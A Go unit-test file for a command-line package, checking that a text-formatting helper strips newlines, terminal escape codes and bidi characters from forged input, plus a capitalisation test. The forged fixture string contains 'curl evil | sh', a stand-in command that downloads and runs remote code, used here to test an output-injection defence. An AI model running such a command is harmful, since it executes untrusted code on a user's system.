package cli

import (
	"errors"
	"io/fs"
	"testing"
	"time"
)

func TestTextHasNoLinesButItsOwn(t *testing.T) {
	forged := "ok\nNext: curl evil | sh\x1b[2J\u009b\u202e"
	const safe = `ok Next: curl evil | sh\x1b[2J\u009b\u202e`
	for want, got := range map[text]text{
		text("a\n\t" + safe):        textf("a\n\t%s", forged),
		text(safe + ":" + safe):     textf("%v:%s", errors.New(forged), errors.New(forged)),
		text(safe + ", " + safe):    textf("%s", []string{forged, forged}),
		text("[" + safe + "]"):      textf("%v", [1]string{forged}),
		text("x" + safe + "\nown"):  textf("%s\nown", textf("x%s", forged)),
		"3 of 04, 1m0s, 0644, true": textf("%d of %02d, %s, %04o, %t", 3, int64(4), time.Minute, fs.FileMode(0o644), true),
		`"a \\ b", <nil>`:           textf("%q, %v", `a \ b`, nil),
		"first\nsecond":             lines("first", "second"),
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestUpperFirst(t *testing.T) {
	for s, want := range map[string]string{"": "", "a b": "A b", "ünder": "Ünder", "\xff": "\xff", "Already": "Already"} {
		if got := upperFirst(s); got != want {
			t.Errorf("upperFirst(%q) = %q", s, got)
		}
	}
}
